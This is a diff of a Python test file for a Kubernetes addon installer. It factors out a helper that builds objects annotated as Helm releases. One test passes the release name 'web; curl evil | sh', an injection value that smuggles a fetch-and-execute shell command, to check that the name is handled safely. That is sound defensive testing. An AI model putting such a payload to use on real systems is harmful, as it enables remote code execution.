@@ -241,17 +241,22 @@ def test_addons_that_are_named_no_more_go_those_that_need_others_first(tmp_path:
     assert memory.notes[-1] == "base: namespace x stays, because it contains y"
 
 
+def of_helm(made: Cluster, release: str) -> Object:
+    """The last object of the first addon, as a Helm release has it."""
+    theirs = applied(rendered(made)[0].objects[-1])
+    theirs["metadata"] |= {
+        "labels": {},
+        "annotations": {"meta.helm.sh/release-name": release},
+        "managedFields": [],
+    }
+    return theirs
+
+
 def test_a_helm_release_is_left_alone(tmp_path: Path) -> None:
     folder(tmp_path, "base")
     made = with_addons(tmp_path, base={})
     run, server, _ = started(made)
-    theirs = applied(rendered(made)[0].objects[-1])
-    theirs["metadata"] |= {
-        "labels": {},
-        "annotations": {"meta.helm.sh/release-name": "web"},
-        "managedFields": [],
-    }
-    server.objects = [theirs]
+    server.objects = [of_helm(made, "web")]
     server.parents = {"other": parent("other", "1", Stage.ADDONS, [])}
     with pytest.raises(KubeinstallError) as error:
         addons.run(run)
@@ -362,13 +367,7 @@ def test_a_helm_release_with_another_name_than_helm_gives_is_none(tmp_path: Path
     folder(tmp_path, "base")
     made = with_addons(tmp_path, base={})
     run, server, _ = started(made)
-    theirs = applied(rendered(made)[0].objects[-1])
-    theirs["metadata"] |= {
-        "labels": {},
-        "annotations": {"meta.helm.sh/release-name": "web; curl evil | sh"},
-        "managedFields": [],
-    }
-    server.others = [theirs]
+    server.others = [of_helm(made, "web; curl evil | sh")]
     server.parents = {"other": parent("other", "1", Stage.NETWORK, [])}
     addons.run(run)
     assert server.done == ["Apply base 1.0"]
